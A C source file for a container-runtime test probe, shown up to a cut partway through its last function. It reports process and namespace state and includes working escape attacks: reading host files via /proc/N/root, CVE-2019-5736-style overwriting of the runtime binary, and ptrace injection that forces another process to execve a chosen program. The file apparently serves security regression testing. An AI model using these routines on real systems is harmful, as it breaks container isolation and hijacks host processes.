/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * cella-probe: a static test fixture that runs inside containers and answers
 * questions about the process it finds itself in.
 *
 *   cella-probe                 one JSON object describing the process
 *   cella-probe read PATH       print PATH's content (exit 0) or the errno name (exit 1)
 *   cella-probe write PATH      create/truncate PATH, write to it; "OK" or the errno name
 *   cella-probe ls DIR          print DIR's entries, one a line, or the errno name
 *   cella-probe sleep N         sleep N seconds (fractions allowed)
 *   cella-probe exit N          exit with status N
 *   cella-probe signals         print "ready", then the name of each SIGTERM, SIGUSR1
 *                               or SIGHUP received; exit 0 after SIGTERM
 *   cella-probe zombies [N]     orphan N (default 3) short-lived grandchildren, wait, and
 *                               print how many zombies remain visible in /proc
 *   cella-probe isatty          print {"stdin":bool,"stdout":bool,"stderr":bool}
 *   cella-probe hunt PATH SECS  for SECS seconds, try to read PATH through the root of
 *                               every process in another mount namespace
 *                               (/proc/N/root/PATH); print "ESCAPE N: content" for each
 *                               success, then "done"
 *   cella-probe nestproc DIR    in nested user, mount and pid namespaces, try to mount a
 *                               procfs on DIR: print "mounted" or the errno name
 *   cella-probe dread PATH MIB  read MIB MiB of PATH (a block device) with O_DIRECT,
 *                               bypassing the page cache; print {"bytes":N,"seconds":S}
 *   cella-probe try OP          try a privileged operation (mount, rawsock, bind80, chown,
 *                               kill): print "ok" or "errno N"
 *   cella-probe notify MSG      send MSG ("\n" escapes for newlines) as one datagram to
 *                               $NOTIFY_SOCKET (sd_notify); print "sent" or the errno name
 *   cella-probe attack-runtime SECS [write]
 *                               print "ready", then for SECS seconds stop every other
 *                               process seen and try to reach it: ptrace, /proc/PID/mem,
 *                               environ, fd/, and an exe outside the container (kept, and
 *                               with "write" opened for writing and overwritten once it
 *                               is no longer busy); print a JSON summary
 *   cella-probe seize-exec PATH OUT SECS
 *                               for SECS seconds, look for another process of our own
 *                               uid; print "found PID" and how much of its environ can
 *                               be read ("environ N BYTES-WITH-MARKER" or "environ errno
 *                               N"), PTRACE_SEIZE it and make it execve
 *                               `PATH report-to OUT`: print "injected", or "seize errno N"
 *                               (x86-64 only); "none" when no such process came
 *   cella-probe report-to OUT   write the JSON report into OUT instead of stdout
 *
 * The rootfs it runs in has no libc, hence static; the output is written by
 * hand so it needs no library either. Errors in the report itself are not
 * fatal: a field that cannot be read is printed as null.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/utsname.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <sys/syscall.h>
#include <unistd.h>

extern char **environ;

/* ---- JSON output ---- */

static bool need_comma;

static void json_str(const char *s)
{
	if (s == NULL) {
		fputs("null", stdout);
		return;
	}
	putchar('"');
	for (const unsigned char *p = (const unsigned char *)s; *p; p++) {
		switch (*p) {
		case '"':
			fputs("\\\"", stdout);
			break;
		case '\\':
			fputs("\\\\", stdout);
			break;
		case '\n':
			fputs("\\n", stdout);
			break;
		case '\t':
			fputs("\\t", stdout);
			break;
		case '\r':
			fputs("\\r", stdout);
			break;
		default:
			if (*p < 0x20 || *p >= 0x7f)
				printf("\\u%04x", *p);
			else
				putchar(*p);
		}
	}
	putchar('"');
}

static void sep(void)
{
	if (need_comma)
		putchar(',');
	need_comma = true;
}

static void key(const char *k)
{
	sep();
	json_str(k);
	putchar(':');
	need_comma = false;
}

static void obj_open(void)
{
	putchar('{');
	need_comma = false;
}

static void obj_close(void)
{
	putchar('}');
	need_comma = true;
}

static void arr_open(void)
{
	putchar('[');
	need_comma = false;
}

static void arr_close(void)
{
	putchar(']');
	need_comma = true;
}

static void val_str(const char *s)
{
	sep();
	json_str(s);
}

static void val_int(long long v)
{
	sep();
	printf("%lld", v);
}

static void val_u64(uint64_t v)
{
	sep();
	printf("%llu", (unsigned long long)v);
}

static void val_bool(bool b)
{
	sep();
	fputs(b ? "true" : "false", stdout);
}

static void val_null(void)
{
	sep();
	fputs("null", stdout);
}

static void kv_str(const char *k, const char *v)
{
	key(k);
	val_str(v);
}

static void kv_int(const char *k, long long v)
{
	key(k);
	val_int(v);
}

/* ---- helpers ---- */

static const char *errname(int err)
{
	const char *n = strerrorname_np(err);
	return n ? n : "EUNKNOWN";
}

/* Read a whole (small) file into a malloc'd NUL-terminated buffer. */
static char *slurp(const char *path, size_t *len_out)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return NULL;
	size_t cap = 4096, len = 0;
	char *buf = malloc(cap);
	if (buf == NULL) {
		close(fd);
		return NULL;
	}
	for (;;) {
		if (len + 1 >= cap) {
			char *nbuf = realloc(buf, cap * 2);
			if (nbuf == NULL) {
				free(buf);
				close(fd);
				errno = ENOMEM;
				return NULL;
			}
			buf = nbuf;
			cap *= 2;
		}
		ssize_t n = read(fd, buf + len, cap - len - 1);
		if (n < 0) {
			if (errno == EINTR)
				continue;
			int err = errno;
			free(buf);
			close(fd);
			errno = err;
			return NULL;
		}
		if (n == 0)
			break;
		len += (size_t)n;
	}
	close(fd);
	buf[len] = '\0';
	if (len_out)
		*len_out = len;
	return buf;
}

static void kv_file(const char *k, const char *path)
{
	char *s = slurp(path, NULL);
	key(k);
	val_str(s);
	free(s);
}

/* The value of "Name:\t..." in /proc/self/status, trimmed; NULL if absent. */
static char *status_field(const char *status, const char *name)
{
	size_t nlen = strlen(name);
	for (const char *line = status; line && *line;) {
		const char *end = strchr(line, '\n');
		size_t llen = end ? (size_t)(end - line) : strlen(line);
		if (llen > nlen && strncmp(line, name, nlen) == 0 && line[nlen] == ':') {
			const char *v = line + nlen + 1;
			while (*v == ' ' || *v == '\t')
				v++;
			return strndup(v, (size_t)(line + llen - v));
		}
		line = end ? end + 1 : NULL;
	}
	return NULL;
}

/* Decode mountinfo's octal escapes (\040 for space...) in place. */
static void unescape_octal(char *s)
{
	char *w = s;
	for (char *r = s; *r;) {
		if (r[0] == '\\' && r[1] >= '0' && r[1] <= '7' && r[2] >= '0' && r[2] <= '7' &&
		    r[3] >= '0' && r[3] <= '7') {
			*w++ = (char)(((r[1] - '0') << 6) | ((r[2] - '0') << 3) | (r[3] - '0'));
			r += 4;
		} else {
			*w++ = *r++;
		}
	}
	*w = '\0';
}

/* ---- report sections ---- */

static void report_ids(void)
{
	kv_int("uid", getuid());
	kv_int("gid", getgid());
	kv_int("euid", geteuid());
	kv_int("egid", getegid());
	key("groups");
	arr_open();
	gid_t groups[NGROUPS_MAX];
	int n = getgroups(NGROUPS_MAX, groups);
	for (int i = 0; i < n; i++)
		val_int(groups[i]);
	arr_close();
	kv_file("uid_map", "/proc/self/uid_map");
	kv_file("gid_map", "/proc/self/gid_map");
	kv_file("setgroups", "/proc/self/setgroups");
}

static void report_status(void)
{
	static const struct {
		const char *json, *field;
	} caps[] = {
	    {"inh", "CapInh"}, {"prm", "CapPrm"}, {"eff", "CapEff"},
	    {"bnd", "CapBnd"}, {"amb", "CapAmb"},
	};
	char *status = slurp("/proc/self/status", NULL);

	key("caps");
	obj_open();
	for (size_t i = 0; i < sizeof(caps) / sizeof(caps[0]); i++) {
		char *v = status ? status_field(status, caps[i].field) : NULL;
		kv_str(caps[i].json, v);
		free(v);
	}
	obj_close();

	char *sec = status ? status_field(status, "Seccomp") : NULL;
	key("seccomp");
	if (sec)
		val_int(atoi(sec));
	else
		val_null();
	free(sec);
	free(status);

	kv_int("no_new_privs", prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
	kv_int("dumpable", prctl(PR_GET_DUMPABLE, 0, 0, 0, 0));
}

static void report_ns(void)
{
	static const char *const names[] = {"user", "mnt", "pid",    "net",
					    "ipc",  "uts", "cgroup", "time"};
	key("ns");
	obj_open();
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		char path[64];
		struct stat st;
		snprintf(path, sizeof(path), "/proc/self/ns/%s", names[i]);
		key(names[i]);
		if (stat(path, &st) == 0)
			val_u64(st.st_ino);
		else
			val_null();
	}
	obj_close();
}

static void report_mounts(void)
{
	key("mounts");
	arr_open();
	char *info = slurp("/proc/self/mountinfo", NULL);
	for (char *line = info, *next; line && *line; line = next) {
		next = strchr(line, '\n');
		if (next)
			*next++ = '\0';
		/* id parent maj:min root mountpoint options [optional...] - fstype source super */
		char *fields[16];
		int nf = 0;
		char *save = NULL;
		for (char *t = strtok_r(line, " ", &save); t && nf < 16;
		     t = strtok_r(NULL, " ", &save))
			fields[nf++] = t;
		int dash = -1;
		for (int i = 6; i < nf; i++) {
			if (strcmp(fields[i], "-") == 0) {
				dash = i;
				break;
			}
		}
		if (nf < 6 || dash < 0 || dash + 2 >= nf)
			continue;
		unescape_octal(fields[3]);
		unescape_octal(fields[4]);
		unescape_octal(fields[dash + 2]);
		sep();
		obj_open();
		kv_str("mountpoint", fields[4]);
		kv_str("fstype", fields[dash + 1]);
		kv_str("options", fields[5]);
		kv_str("source", fields[dash + 2]);
		kv_str("super_options", dash + 3 < nf ? fields[dash + 3] : "");
		kv_str("root", fields[3]);
		obj_close();
	}
	free(info);
	arr_close();
}

static void report_interfaces(void)
{
	key("interfaces");
	arr_open();
	int sock = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	struct if_nameindex *ifs = if_nameindex();
	for (struct if_nameindex *i = ifs; i && i->if_index != 0; i++) {
		struct ifreq ifr;
		memset(&ifr, 0, sizeof(ifr));
		snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", i->if_name);
		bool ok = sock >= 0 && ioctl(sock, SIOCGIFFLAGS, &ifr) == 0;
		sep();
		obj_open();
		kv_str("name", i->if_name);
		key("flags_up");
		val_bool(ok && (ifr.ifr_flags & IFF_UP));
		key("running");
		val_bool(ok && (ifr.ifr_flags & IFF_RUNNING));
		key("loopback");
		val_bool(ok && (ifr.ifr_flags & IFF_LOOPBACK));
		obj_close();
	}
	if (ifs)
		if_freenameindex(ifs);
	if (sock >= 0)
		close(sock);
	arr_close();
}

static void report_rlimits(void)
{
	static const struct {
		const char *name;
		int res;
	} limits[] = {
	    {"AS", RLIMIT_AS},
	    {"CORE", RLIMIT_CORE},
	    {"CPU", RLIMIT_CPU},
	    {"DATA", RLIMIT_DATA},
	    {"FSIZE", RLIMIT_FSIZE},
	    {"LOCKS", RLIMIT_LOCKS},
	    {"MEMLOCK", RLIMIT_MEMLOCK},
	    {"MSGQUEUE", RLIMIT_MSGQUEUE},
	    {"NICE", RLIMIT_NICE},
	    {"NOFILE", RLIMIT_NOFILE},
	    {"NPROC", RLIMIT_NPROC},
	    {"RSS", RLIMIT_RSS},
	    {"RTPRIO", RLIMIT_RTPRIO},
	    {"RTTIME", RLIMIT_RTTIME},
	    {"SIGPENDING", RLIMIT_SIGPENDING},
	    {"STACK", RLIMIT_STACK},
	};
	key("rlimits");
	obj_open();
	for (size_t i = 0; i < sizeof(limits) / sizeof(limits[0]); i++) {
		struct rlimit rl;
		key(limits[i].name);
		if (getrlimit(limits[i].res, &rl) != 0) {
			val_null();
			continue;
		}
		arr_open();
		val_u64(rl.rlim_cur);
		val_u64(rl.rlim_max);
		arr_close();
	}
	obj_close();
}

static void report_fds(void)
{
	key("fds");
	arr_open();
	DIR *d = opendir("/proc/self/fd");
	if (d) {
		int self = dirfd(d);
		struct dirent *e;
		while ((e = readdir(d)) != NULL) {
			if (e->d_name[0] == '.')
				continue;
			int fd = atoi(e->d_name);
			if (fd != self)
				val_int(fd);
		}
		closedir(d);
	}
	arr_close();
}

static int report(void)
{
	struct utsname u;
	char cwd[PATH_MAX];

	obj_open();
	if (uname(&u) == 0) {
		kv_str("hostname", u.nodename);
		kv_str("domainname", u.domainname);
	}
	kv_int("pid", getpid());
	kv_int("ppid", getppid());
	report_ids();
	report_status();
	report_ns();
	report_mounts();
	report_interfaces();
	report_rlimits();
	kv_str("cwd", getcwd(cwd, sizeof(cwd)));
	mode_t mask = umask(0);
	umask(mask);
	kv_int("umask", mask);
	report_fds();
	key("environ");
	arr_open();
	for (char **e = environ; e && *e; e++)
		val_str(*e);
	arr_close();
	char *oom = slurp("/proc/self/oom_score_adj", NULL);
	key("oom_score_adj");
	if (oom)
		val_int(atoi(oom));
	else
		val_null();
	free(oom);
	kv_file("cgroup", "/proc/self/cgroup");
	key("isatty");
	arr_open();
	for (int fd = 0; fd < 3; fd++)
		val_bool(isatty(fd));
	arr_close();
	obj_close();
	putchar('\n');
	return fflush(stdout) == 0 ? 0 : 1;
}

/* ---- subcommands ---- */

static int cmd_read(const char *path)
{
	size_t len = 0;
	char *s = slurp(path, &len);
	if (s == NULL) {
		printf("%s\n", errname(errno));
		return 1;
	}
	fwrite(s, 1, len, stdout);
	free(s);
	return 0;
}

static int cmd_write(const char *path)
{
	static const char text[] = "cella-probe\n";
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (fd < 0 || write(fd, text, sizeof(text) - 1) != (ssize_t)(sizeof(text) - 1)) {
		printf("%s\n", errname(errno));
		return 1;
	}
	if (close(fd) != 0) {
		printf("%s\n", errname(errno));
		return 1;
	}
	printf("OK\n");
	return 0;
}

/* nestproc DIR: in a nested user, mount and pid namespace, try to mount a
 * fresh procfs on DIR (the kernel allows it only where a procfs is already
 * fully visible in the mount namespace); print "mounted" or the errno name. */
static int cmd_nestproc(const char *dir)
{
	int status = 0;
	pid_t pid;

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID) < 0) {
		printf("unshare %s\n", errname(errno));
		return 1;
	}
	pid = fork();
	if (pid < 0) {
		printf("fork %s\n", errname(errno));
		return 1;
	}
	if (pid == 0) {
		if (mount("proc", dir, "proc", MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL) < 0) {
			printf("%s\n", errname(errno));
			fflush(stdout);
			_exit(1);
		}
		printf("mounted\n");
		fflush(stdout);
		_exit(0);
	}
	waitpid(pid, &status, 0);
	fflush(stdout);
	return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}

static int cmd_hunt(const char *path, const char *secs)
{
	struct timespec start, now;
	char self_mnt[64] = "", link[64], buf[256];
	double limit = atof(secs);
	int found = 0;
	ssize_t n;

	n = readlink("/proc/self/ns/mnt", self_mnt, sizeof(self_mnt) - 1);
	if (n > 0)
		self_mnt[n] = '\0';
	clock_gettime(CLOCK_MONOTONIC, &start);
	do {
		DIR *d = opendir("/proc");
		struct dirent *e;

		while (d != NULL && (e = readdir(d)) != NULL) {
			char p[PATH_MAX + 300];
			int fd;

			if (e->d_name[0] < '0' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
				continue;
			snprintf(p, sizeof(p), "/proc/%s/ns/mnt", e->d_name);
			n = readlink(p, link, sizeof(link) - 1);
			if (n <= 0)
				continue;
			link[n] = '\0';
			if (strcmp(link, self_mnt) == 0)
				continue;
			snprintf(p, sizeof(p), "/proc/%s/root%s", e->d_name, path);
			fd = open(p, O_RDONLY | O_CLOEXEC);
			if (fd < 0)
				continue;
			n = read(fd, buf, sizeof(buf) - 1);
			close(fd);
			if (n > 0) {
				buf[n] = '\0';
				printf("ESCAPE %s: %s\n", e->d_name, buf);
				found++;
			}
		}
		if (d != NULL)
			closedir(d);
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (found == 0 &&
		 (double)(now.tv_sec - start.tv_sec) + (double)(now.tv_nsec - start.tv_nsec) / 1e9 <
		     limit);
	printf("done\n");
	return 0;
}

static int cmd_dread(const char *path, const char *mib)
{
	size_t want = (size_t)atol(mib) << 20, done = 0;
	const size_t chunk = 64 << 10;
	struct timespec t0, t1;
	void *buf = NULL;
	int fd = open(path, O_RDONLY | O_DIRECT | O_CLOEXEC);

	if (fd < 0 || posix_memalign(&buf, 4096, chunk) != 0) {
		printf("%s\n", errname(errno));
		return 1;
	}
	clock_gettime(CLOCK_MONOTONIC, &t0);
	while (done < want) {
		ssize_t n = pread(fd, buf, chunk, (off_t)done);
		if (n <= 0) {
			printf("%s\n", n < 0 ? errname(errno) : "EOF");
			return 1;
		}
		done += (size_t)n;
	}
	clock_gettime(CLOCK_MONOTONIC, &t1);
	printf("{\"bytes\":%zu,\"seconds\":%.3f}\n", done,
	       (double)(t1.tv_sec - t0.tv_sec) + (double)(t1.tv_nsec - t0.tv_nsec) / 1e9);
	free(buf);
	close(fd);
	return 0;
}

static int cmd_ls(const char *path)
{
	DIR *d = opendir(path);
	if (d == NULL) {
		printf("%s\n", errname(errno));
		return 1;
	}
	struct dirent *e;
	while ((e = readdir(d)) != NULL) {
		if (strcmp(e->d_name, ".") != 0 && strcmp(e->d_name, "..") != 0)
			printf("%s\n", e->d_name);
	}
	closedir(d);
	return 0;
}

static int cmd_sleep(const char *arg)
{
	double secs = strtod(arg, NULL);
	struct timespec ts = {.tv_sec = (time_t)secs,
			      .tv_nsec = (long)((secs - (double)(time_t)secs) * 1e9)};
	while (nanosleep(&ts, &ts) != 0 && errno == EINTR)
		;
	return 0;
}

static volatile sig_atomic_t got_term;

static void on_signal(int sig)
{
	const char *name = sig == SIGTERM ? "SIGTERM\n" : sig == SIGUSR1 ? "SIGUSR1\n" : "SIGHUP\n";
	ssize_t r = write(STDOUT_FILENO, name, strlen(name));
	(void)r;
	if (sig == SIGTERM)
		got_term = 1;
}

static int cmd_signals(void)
{
	static const int sigs[] = {SIGTERM, SIGUSR1, SIGHUP};
	sigset_t block, old;
	sigemptyset(&block);
	for (size_t i = 0; i < sizeof(sigs) / sizeof(sigs[0]); i++) {
		struct sigaction sa;
		memset(&sa, 0, sizeof(sa));
		sa.sa_handler = on_signal;
		sigemptyset(&sa.sa_mask);
		if (sigaction(sigs[i], &sa, NULL) != 0) {
			printf("%s\n", errname(errno));
			return 1;
		}
		sigaddset(&block, sigs[i]);
	}
	/* Block them while checking got_term; sigsuspend opens the window. */
	sigprocmask(SIG_BLOCK, &block, &old);
	printf("ready\n");
	fflush(stdout);
	while (!got_term)
		sigsuspend(&old);
	return 0;
}

static int count_zombies(void)
{
	int count = 0;
	DIR *d = opendir("/proc");
	if (d == NULL)
		return -1;
	struct dirent *e;
	while ((e = readdir(d)) != NULL) {
		if (e->d_name[0] < '0' || e->d_name[0] > '9')
			continue;
		char path[300];
		snprintf(path, sizeof(path), "/proc/%s/stat", e->d_name);
		char *stat = slurp(path, NULL);
		if (stat == NULL)
			continue;
		/* pid (comm) S ...: the state follows the last ')' */
		char *p = strrchr(stat, ')');
		if (p && p[1] == ' ' && p[2] == 'Z')
			count++;
		free(stat);
	}
	closedir(d);
	return count;
}

static int cmd_zombies(const char *arg)
{
	int n = arg ? atoi(arg) : 3;
	pid_t child = fork();
	if (child < 0) {
		printf("%s\n", errname(errno));
		return 1;
	}
	if (child == 0) {
		/* The grandchildren outlive this process and go to the reaper. */
		for (int i = 0; i < n; i++) {
			if (fork() == 0)
				_exit(0);
		}
		_exit(0);
	}
	waitpid(child, NULL, 0);
	struct timespec ts = {.tv_sec = 0, .tv_nsec = 300 * 1000 * 1000};
	nanosleep(&ts, NULL);
	printf("%d\n", count_zombies());
	return 0;
}

static int cmd_isatty(void)
{
	printf("{\"stdin\":%s,\"stdout\":%s,\"stderr\":%s}\n", isatty(0) ? "true" : "false",
	       isatty(1) ? "true" : "false", isatty(2) ? "true" : "false");
	return 0;
}

static int usage(void)
{
	fprintf(stderr, "usage: cella-probe [read PATH | write PATH | ls DIR | sleep N | exit N |"
			" signals | zombies [N] | isatty]\n");
	return 2;
}

/* try OP: one operation that needs a capability; "ok" or "errno N". */
static int cmd_try(const char *op)
{
	int r = -1;

	if (strcmp(op, "mount") == 0) {
		r = mount("none", "/tmp", "tmpfs", 0, NULL);
	} else if (strcmp(op, "rawsock") == 0) {
		r = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
	} else if (strcmp(op, "bind80") == 0) {
		struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(80)};
		int s = socket(AF_INET, SOCK_STREAM, 0);

		r = s < 0 ? -1 : bind(s, (struct sockaddr *)&a, sizeof(a));
	} else if (strcmp(op, "chown") == 0) {
		int fd = open("/tmp/chown-probe", O_CREAT | O_WRONLY, 0644);

		r = fd < 0 ? -1 : fchown(fd, 4321, 4321);
	} else if (strcmp(op, "kill") == 0) {
		/* A process of another uid: a child that switches to 4321. */
		int p[2];
		char c;
		pid_t pid;

		if (pipe(p) < 0)
			return 1;
		pid = fork();
		if (pid == 0) {
			if (setresuid(4321, 4321, 4321) < 0)
				_exit(1);
			if (write(p[1], "x", 1) != 1)
				_exit(1);
			sleep(1); /* ends by itself: we may not kill it */
			_exit(0);
		}
		close(p[1]);
		if (read(p[0], &c, 1) != 1) {
			printf("setup failed\n");
			return 1;
		}
		r = kill(pid, SIGTERM);
		int e = errno;
		waitpid(pid, NULL, 0);
		errno = e;
	} else {
		return usage();
	}
	if (r < 0)
		printf("errno %d\n", errno);
	else
		printf("ok\n");
	return 0;
}

/* An exe handle outside the container: the path the link shows does not
 * lead to the same file from here. */
static bool foreign_exe(pid_t pid, int fd)
{
	char path[64], target[PATH_MAX];
	struct stat a, b;
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
	n = readlink(path, target, sizeof(target) - 1);
	if (n < 0 || fstat(fd, &a) < 0)
		return false;
	target[n] = '\0';
	return stat(target, &b) < 0 || a.st_dev != b.st_dev || a.st_ino != b.st_ino;
}

static bool can_open(pid_t pid, const char *what, int flags)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/%s", (int)pid, what);
	fd = open(path, flags | O_CLOEXEC);
	if (fd < 0)
		return false;
	close(fd);
	return true;
}

static bool comm_is(pid_t pid, const char *name)
{
	char path[64];
	char *comm;
	bool r;

	snprintf(path, sizeof(path), "/proc/%d/comm", (int)pid);
	comm = slurp(path, NULL);
	if (comm == NULL)
		return false;
	comm[strcspn(comm, "\n")] = '\0';
	r = strcmp(comm, name) == 0;
	free(comm);
	return r;
}

static bool is_stopped(pid_t pid)
{
	char path[64];
	char *st, *p;
	bool r;

	snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
	st = slurp(path, NULL);
	if (st == NULL)
		return true; /* gone: nothing to wait for */
	p = strrchr(st, ')');
	r = p == NULL || (p[1] == ' ' && (p[2] == 'T' || p[2] == 't' || p[2] == 'Z'));
	free(st);
	return r;
}

static double now_s(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* attack-runtime SECS [write]: the attacks of CVE-2016-9962 and
 * CVE-2019-5736 from inside the container. */
static int cmd_attack_runtime(const char *secs, bool do_write)
{
	double end = now_s() + atof(secs);
	int runtime_seen = 0, mem = 0, environ_ = 0, fds = 0, traced = 0;
	int exe_handles[16], n_exe = 0, write_opened = 0, written = 0;
	pid_t self = getpid();

	printf("ready\n");
	fflush(stdout);
	while (now_s() < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		while (d != NULL && (e = readdir(d)) != NULL) {
			pid_t pid = atoi(e->d_name);
			char path[64];
			bool runtime, keep = false;
			int fd;

			if (pid <= 0 || pid == self)
				continue;
			if (kill(pid, SIGSTOP) < 0)
				continue;
			/* Stopped for real, so it cannot execve under us. */
			for (int i = 0; i < 2000 && !is_stopped(pid); i++)
				usleep(100);
			/* Still the runtime (before its execve). */
			runtime = comm_is(pid, "cella");
			if (runtime) {
				runtime_seen++;
				mem += can_open(pid, "mem", O_RDWR);
				environ_ += can_open(pid, "environ", O_RDONLY);
				snprintf(path, sizeof(path), "/proc/%d/fd", (int)pid);
				DIR *fdd = opendir(path);
				struct dirent *fe;
				/* Listing is not enough: a link must resolve. */
				while (fdd != NULL && (fe = readdir(fdd)) != NULL) {
					char lp[PATH_MAX], t[PATH_MAX];

					if (fe->d_name[0] == '.')
						continue;
					snprintf(lp, sizeof(lp), "%s/%s", path, fe->d_name);
					if (readlink(lp, t, sizeof(t)) >= 0) {
						fds++;
						break;
					}
				}
				if (fdd != NULL)
					closedir(fdd);
				if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
					traced++;
					ptrace(PTRACE_DETACH, pid, 0, 0);
				}
			}
			snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
			fd = open(path, O_PATH | O_CLOEXEC);
			if (fd >= 0 && n_exe < 16 && foreign_exe(pid, fd)) {
				exe_handles[n_exe++] = fd;
				keep = true;
			} else if (fd >= 0) {
				close(fd);
			}
			/* With a handle, let the runtime die so that its binary
			 * is no longer busy. */
			kill(pid, keep && do_write ? SIGKILL : SIGCONT);
		}
		if (d != NULL)
			closedir(d);
		for (int i = 0; do_write && i < n_exe; i++) {
			char path[64];
			int fd;

			if (exe_handles[i] < 0)
				continue;
			snprintf(path, sizeof(path), "/proc/self/fd/%d", exe_handles[i]);
			fd = open(path, O_WRONLY | O_CLOEXEC);
			if (fd < 0)
				continue;
			write_opened++;
			if (write(fd, "#!/bin/sh\n# overwritten from a container\n", 41) > 0)
				written++;
			close(fd);
			close(exe_handles[i]);
			exe_handles[i] = -1;
		}
	}
	printf("{\"runtime_seen\":%d,\"mem\":%d,\"environ\":%d,\"fd_dir\":%d,\"ptrace\":%d,"
	       "\"foreign_exe\":%d,\"write_opened\":%d,\"written\":%d}\n",
	       runtime_seen, mem, environ_, fds, traced, n_exe, write_opened, written);
	return 0;
}

/* The real uid of pid, or -1. */
static long uid_of(pid_t pid)
{
	char path[64], line[256];
	long uid = -1;
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%d/status", (int)pid);
	f = fopen(path, "r");
	if (f == NULL)
		return -1;
	while (fgets(line, sizeof(line), f) != NULL)
		if (strncmp(line, "Uid:", 4) == 0)
			uid = strtol(line + 4, NULL, 10);
	fclose(f);
	return uid;
}

/* Another process of our uid, or 0. */
static pid_t find_same_uid(void)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	pid_t found = 0, self = getpid();

	while (d != NULL && (e = readdir(d)) != NULL) {
		pid_t pid = atoi(e->d_name);

		if (pid > 0 && pid != self && uid_of(pid) == (long)getuid()) {
			found = pid;
			break;
		}
	}
	if (d != NULL)
		closedir(d);
	return found;
}

/* What /proc/PID/environ gives us: its size and whether MARKER is in it. */
static void print_environ(pid_t pid, const char *marker)
{
	char path[64], buf[65536];
	ssize_t n, total = 0;
	bool has = false;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/environ", (int)pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		printf("environ errno %d\n", errno);
		return;
	}
	n = read(fd, buf, sizeof(buf) - 1);
	if (n < 0) {
		printf("environ errno %d\n", errno);
		close(fd);
		return;
	}
	total = n;
	for (ssize_t i = 0; i < n; i++)
		if (buf[i] == '\0')
			buf[i] = '\n';
	buf[n] = '\0';
	has = strstr(buf, marker) != NULL;
	printf("environ %zd %d\n", total, has ? 1 : 0);
	close(fd);
}

/* seize-exec PATH OUT SECS: the attack on a process the runtime left
 * within reach (issue 9): seize it and make it execve PATH. */
static int cmd_seize_exec(const char *path, const char *out, const char *secs)
{
#if defined(__x86_64__)
	double end = now_s() + atof(secs);
	struct user_regs_struct regs;
	unsigned long sp, str_path, str_cmd, str_out, argv;
	const char *cmd = "report-to";
	pid_t pid = 0;
	int status;

	while (pid == 0 && now_s() < end) {
		pid = find_same_uid();
		if (pid == 0)
			usleep(2000);
	}
	if (pid == 0) {
		printf("none\n");
		return 0;
	}
	printf("found %d\n", (int)pid);
	print_environ(pid, "CELLA_SECRET");
	fflush(stdout);
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) {
		printf("seize errno %d\n", errno);
		return 0;
	}
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0 || waitpid(pid, &status, __WALL) < 0 ||
	    ptrace(PTRACE_GETREGS, pid, 0, &regs) < 0) {
		printf("interrupt errno %d\n", errno);
		return 0;
	}
	/* Strings and argv below the red zone of its stack. */
	sp = (regs.rsp - 4096) & ~15UL;
	str_path = sp;
	str_cmd = str_path + ((strlen(path) + 16) & ~7UL);
	str_out = str_cmd + ((strlen(cmd) + 16) & ~7UL);
	argv = str_out + ((strlen(out) + 16) & ~7UL);
	const struct {
		unsigned long at;
		const char *s;
	} strs[] = {{str_path, path}, {str_cmd, cmd}, {str_out, out}};
	for (size_t i = 0; i < 3; i++) {
		size_t len = strlen(strs[i].s) + 1;

		for (size_t o = 0; o < len; o += sizeof(long)) {
			long w = 0;

			memcpy(&w, strs[i].s + o, len - o < sizeof(long) ? len - o : sizeof(long));
			ptrace(PTRACE_POKEDATA, pid, (void *)(strs[i].at + o), (void *)w);
		}
	}
	ptrace(PTRACE_POKEDATA, pid, (void *)argv, (void *)str_path);
	ptrace(PTRACE_POKEDATA, pid, (void *)(argv + 8), (void *)str_cmd);
	ptrace(PTRACE_POKEDATA, pid, (void *)(argv + 16), (void *)str_out);
	ptrace(PTRACE_POKEDATA, pid, (void *)(argv + 24), (void *)0);
	/* Stopped inside a system call: the `syscall` instruction is the two
	 * bytes before rip; run it again as execve, with no restart. */
	regs.rip -= 2;
	regs.rax = SYS_execve;
	regs.orig_rax = (unsigned long)-1;
	regs.rdi = str_path;
	regs.rsi = argv;
	regs.rdx = 0;
	if (ptrace(PTRACE_SETREGS, pid, 0, &regs) < 0 || ptrace(PTRACE_DETACH, pid, 0, 0) < 0) {
		printf("inject errno %d\n", errno);
